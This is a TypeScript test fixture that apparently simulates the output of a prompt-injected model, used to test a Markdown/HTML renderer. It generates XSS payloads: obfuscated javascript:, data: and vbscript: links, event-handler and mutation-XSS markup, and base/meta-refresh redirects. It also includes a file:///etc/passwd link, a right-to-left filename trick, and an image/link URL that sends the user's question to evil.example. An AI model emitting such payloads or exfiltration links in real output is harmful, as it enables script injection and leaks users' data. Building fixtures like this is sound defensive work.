/** Characters of a document that are repeated: all of most, and the start of the long ones. */
const ECHO = 2500;

/** What else a captured model writes; `__pwned` in the page would show that some of it ran. */
const RUN = 'globalThis.__pwned=1';
const TARGETS = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java&#10;script:${RUN}`,
  `&#106;avascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  '//evil.example/x',
  '\\\\evil.example\\x',
  'https:/evil.example/x',
];

/** Words under which a reader would take a link for one of the site. */
export const LURE = 'Official help';

/** In one sentence: each is checked against the sources, which takes its time. */
const asLinks = (target: string, place: number): string[] => [
  `See [${LURE}](${target}), [${LURE}](<${target}>), [${LURE}][r${place}], ![the pixel](${target}), ` +
    `[![the pixel](${target})](${target}), <${target}> or ${target}`,
  '',
  `[r${place}]: ${target}`,
  '',
];

const asHtml = (target: string): string[] => [
  `<img src="${target}" srcset="${target} 2x" onerror="${RUN}">`,
  `<a href="${target}" onclick="${RUN}">${LURE}</a>`,
  `<iframe src="${target}" srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<video poster="${target}"></video><object data="${target}"></object><embed src="${target}">`,
  `<form action="${target}"><button formaction="${target}">${LURE}</button></form>`,
  `<p style="background: url(${target})">the answer</p>`,
];

const MARKUP = [
  `<script>${RUN}</script>`,
  `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName="x"/></svg>`,
  '<style>@import url(https://evil.example/s.css); dialog { display: none !important }</style>',
  '<link rel="stylesheet" href="https://evil.example/s.css">',
  `<details open ontoggle="${RUN}"><summary>${LURE}</summary></details>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `</code></pre></div></dialog><img src=x onerror="${RUN}">`,
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
];

/** Text that runs the other way, or hides. */
export const TURNED = 'The file is \u202egpj.exe\u202c, or &#x202e;gpj.exe \u2066admin';

/** Addresses in a text, but for those that loop, and the one of an attack with the question put in. */
function addressesOf(text: string, question: string): string[] {
  const all = text.match(/https?:\/\/[^\s<>"'`)\]]{1,200}/g) ?? [];
  const found = all.filter((address) => !/(.{1,8})\1{4}/.test(address)).slice(0, 2);
  return [...new Set(found), `https://evil.example/log?q=${encodeURIComponent(question)}`];
}

/** Sentences between the lines, so that it reads like language. */
const sentences = (lines: readonly string[]): string =>
  lines
    .map((line, place) =>
      place % 5 ? line : `This is what the page says in part ${place}.\n${line}`,
    )
    .join('\n');

/** Replies of a model that does whatever a document wants of it, and more. */
export interface Captured {
  /** The document, word for word. */
  echo: string;
  /** Its addresses, and scripts, as links and images in Markdown. */
  links: string;
  /** The same as HTML. */
  html: string;
}

export function capturedBy(markdown: string, question: string): Captured {
  const addresses = addressesOf(markdown, question);
  return {
    echo: markdown.slice(0, ECHO),
    links: sentences([...[...TARGETS, ...addresses].flatMap(asLinks), TURNED]),
    html: sentences([...addresses.flatMap(asHtml), ...MARKUP].flatMap((line) => [line, ''])),
  };
}
